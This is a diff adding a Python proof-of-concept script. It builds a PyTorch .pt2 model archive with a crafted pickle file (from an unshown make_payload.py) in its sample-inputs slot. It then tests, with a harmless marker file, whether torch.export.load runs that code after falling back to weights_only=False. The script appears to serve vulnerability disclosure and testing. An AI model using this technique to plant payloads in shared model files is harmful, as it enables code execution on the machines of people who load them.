@@ -1,0 +1,29 @@
+# Run after: make_payload.py
+import contextlib
+import io
+import os
+import zipfile
+
+import torch
+
+# A .pt2 archive keeps its sample inputs as a torch.save file. Put the payload file from make_payload.py there.
+model = torch.nn.Linear(2, 2)
+torch.export.save(torch.export.export(model, (torch.ones(1, 2),)), "model.pt2")
+with zipfile.ZipFile("model.pt2") as old:
+    members = [(info, old.read(info)) for info in old.infolist()]
+with zipfile.ZipFile("model.pt2", "w") as new:
+    for info, data in members:
+        if info.filename.endswith("/sample_inputs/model.pt"):
+            data = open("suspicious.pt", "rb").read()
+        new.writestr(info, data)
+
+if os.path.exists("i_ran.txt"):
+    os.remove("i_ran.txt")  # left by load_unsafe.py if it ran in this folder: start without a marker
+print("marker before loading:", os.path.exists("i_ran.txt"))
+with contextlib.redirect_stderr(io.StringIO()) as log:  # keep what torch logs, to show it below
+    loaded = torch.export.load("model.pt2")  # weights_only=True fails, then it retries with weights_only=False
+print("marker after loading: ", os.path.exists("i_ran.txt"))
+# What torch wrote to stderr, without the "Call stack:" part (it lists whatever program called torch.export.load).
+logged = log.getvalue()
+print(logged[: logged.index("Call stack:")] + logged[logged.index("Message:"):].strip())
+print("loaded:", type(loaded).__name__)
